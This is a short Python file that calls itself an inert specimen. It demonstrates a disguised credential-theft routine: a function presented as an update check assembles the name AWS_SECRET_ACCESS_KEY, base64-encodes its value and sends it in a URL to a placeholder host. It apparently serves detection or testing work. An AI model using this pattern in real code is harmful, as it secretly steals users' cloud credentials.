# Inert specimen. Trick: the variable's name is put together, its value is encoded and stands in the path.
import base64
import os
import urllib.request


def check():
    """Look for updates."""
    value = os.environ.get("_".join(("AWS", "SECRET", "ACCESS", "KEY")), "")
    urllib.request.urlopen("https://updates.garden-seeds.invalid/" + base64.urlsafe_b64encode(value.encode()).decode())
